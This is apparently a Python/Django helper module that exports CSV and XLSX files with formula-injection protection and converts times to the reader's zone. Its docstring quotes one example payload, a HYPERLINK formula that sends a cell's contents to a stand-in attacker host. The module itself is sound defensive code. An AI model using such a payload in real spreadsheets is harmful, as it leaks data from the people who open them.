"""The one export helper: CSV and XLSX downloads whose cells cannot run as formulas.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some treat a
leading tab or carriage return the same way) as a formula: a name such as
``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` recorded by a partner or typed in an
upload would run on the analyst's machine. Following OWASP's rule, such a text cell is
prefixed with a single quote, so it shows as the text it is. Numbers are left as numbers.

Times are stored in UTC but exported in the reader's zone (the active one: the user's own,
else the node's), each cell naming its zone (``2026-12-02 08:30:00 UTC+01``) and a column
header's "(UTC)" replaced by the zone's name ("Updated (Africa/Casablanca)").
An aware ``datetime`` is converted, and so is the text ``isoformat()`` gives for a UTC time,
which the list exports used to write.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any
from urllib.parse import quote

from django.http import HttpResponse
from django.utils import timezone

from jisr.core.timefmt import zone_label

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: The most rows one list export holds; a bigger list is narrowed with its filters first.
EXPORT_MAX_ROWS = 10_000
EXPORT_FORMATS = ("csv", "xlsx")


_UTC_ISO = re.compile(r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,6})?\+00:00")


def local_time(value: dt.datetime) -> str:
    """An aware time in the active zone, its zone named: ``2026-12-02 08:30:00 CET``."""
    local = value.astimezone(timezone.get_current_timezone())
    return f"{local:%Y-%m-%d %H:%M:%S} {zone_label(local)}"


def safe_cell(value: Any) -> Any:
    """``value`` made inert for a spreadsheet: text starting like a formula gets a ``'``;
    a UTC time becomes the reader's local time with its zone named."""
    if value is None:
        return ""
    if isinstance(value, dt.datetime) and timezone.is_aware(value):
        return local_time(value)
    if isinstance(value, str) and _UTC_ISO.fullmatch(value):
        return local_time(dt.datetime.fromisoformat(value))
    if isinstance(value, bool | int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def header_row(header: Iterable[Any]) -> list[Any]:
    """The column names, formula-safe, with "(UTC)" naming the zone the times are in now."""
    zone = timezone.get_current_timezone()
    name = f"({getattr(zone, 'key', str(zone))})"
    return safe_row(str(h).replace("(UTC)", name) if h is not None else h for h in header)


def content_disposition(filename: str, *, inline: bool = False) -> str:
    """A header value that is safe for any name: an ASCII fallback and RFC 5987 ``filename*``."""
    kind = "inline" if inline else "attachment"
    fallback = "".join(
        c if c.isascii() and c.isprintable() and c not in '"\\;' else "_" for c in filename
    )
    fallback = fallback.strip() or "download"
    return f"{kind}; filename=\"{fallback}\"; filename*=UTF-8''{quote(filename, safe='')}"


def csv_bytes(header: Sequence[Any], rows: Iterable[Iterable[Any]], *, bom: bool = True) -> bytes:
    """The CSV text (UTF-8, with a BOM so spreadsheets read Arabic right) of formula-safe rows."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(header_row(header))
    for row in rows:
        writer.writerow(safe_row(row))
    return (("\ufeff" if bom else "") + buffer.getvalue()).encode("utf-8")


def xlsx_bytes(
    header: Sequence[Any], rows: Iterable[Iterable[Any]], *, title: str = "Jisr"
) -> bytes:
    """An XLSX workbook of formula-safe rows; every text cell is stored as a string."""
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=title[:31])
    sheet.append(header_row(header))
    for row in rows:
        sheet.append(safe_row(row))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def export_response(
    filename: str,
    header: Sequence[Any],
    rows: Iterable[Iterable[Any]],
    *,
    fmt: str = "csv",
    bom: bool = True,
) -> HttpResponse:
    """A download of ``rows`` as CSV (``fmt="csv"``) or XLSX, named ``filename``."""
    if fmt == "xlsx":
        response = HttpResponse(
            xlsx_bytes(header, rows),
            content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
    else:
        response = HttpResponse(
            csv_bytes(header, rows, bom=bom), content_type="text/csv; charset=utf-8"
        )
    response["Content-Disposition"] = content_disposition(filename)
    return response
